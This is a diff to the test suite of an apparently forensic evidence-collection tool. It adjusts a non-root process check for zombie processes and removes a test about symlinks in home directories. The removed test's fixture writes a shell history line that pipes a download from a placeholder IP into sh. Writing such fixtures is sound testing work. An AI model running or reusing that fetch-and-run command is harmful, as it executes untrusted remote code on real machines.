@@ -324,8 +324,14 @@ def test_non_root_run_records_what_was_denied(nobody_dir: Path) -> None:
     assert 1 in denied[0]["denied_pids"] and denied[0]["denied_fields"]["exe"] > 0
     procs = {p["pid"]: p for p in _jsonl(evidence / "artifacts/volatile/processes.jsonl")}
     assert "exe" in procs[1]["denied"] and procs[1]["exe"] is None
-    mine = [p for p in procs.values() if p.get("uids") and p["uids"][0] == 65534]
-    assert mine and all(not p["denied"] for p in mine)  # its own processes are complete
+    # Its own processes are complete; a zombie of nobody's (an sshd of another test, not yet
+    # reaped by its parent) has nothing left to read, which is not a denial.
+    mine = [
+        p
+        for p in procs.values()
+        if p.get("uids") and p["uids"][0] == 65534 and p.get("status") != "zombie"
+    ]
+    assert mine and all(not p["denied"] for p in mine), [p for p in mine if p["denied"]]
     _verified(summary)
 
 
@@ -521,43 +527,6 @@ def test_a_fifo_where_a_file_was_expected_does_not_block(tmp_path: Path) -> None
     assert time.monotonic() - began < 2
     (tmp_path / "ok").write_bytes(b"x" * 10)
     assert _linux.read_regular(str(tmp_path / "ok"), 4) == b"xxxx"
-
-
-def test_home_symlinks_do_not_steer_the_copy(tmp_path: Path, monkeypatch) -> None:
-    from collectors import system
-
-    home = tmp_path / "home"
-    (home / ".config").mkdir(parents=True)
-    (home / ".bash_history").write_text("curl http://203.0.113.9/x | sh\n")
-    elsewhere = tmp_path / "elsewhere"
-    (elsewhere / "systemd/user").mkdir(parents=True)
-    (elsewhere / "systemd/user/big.service").write_text("[Service]\n")
-    (home / ".ssh").symlink_to(elsewhere)
-    (home / ".config").rmdir()
-    (home / ".config").symlink_to(elsewhere)
-
-    from collectors.context import CollectContext, Options
-    from collectors.copy import CopyEngine
-
-    writer = new_writer(tmp_path)
-    out, journal = writer.root, writer.journal
-    engine = CopyEngine(writer)
-    ctx = CollectContext(out, journal, engine, Options(), log=None)
-    collector = system.SystemCollector()
-    try:
-        for rel in system.HOME_FILES:
-            collector._preserve_in_home(ctx, bytes(home), rel)
-        engine.drain()
-    finally:
-        engine.shutdown()
-        journal.close()
-    records = journal_records(out)
-    stored = [r["source"]["path"] for r in records if r["type"] == "artifact"]
-    skipped = [r for r in records if r["type"] == "skipped"]
-    assert stored == [str(home / ".bash_history")]
-    assert [r["source"]["path"] for r in skipped] == [str(home / ".config/systemd/user")]
-    assert skipped[0]["target"] == str(elsewhere / "systemd/user")
-    assert not list((out / "artifacts").rglob("big.service"))
 
 
 def test_network_alone_takes_its_own_socket_snapshot(tmp_path: Path, reap: list) -> None:
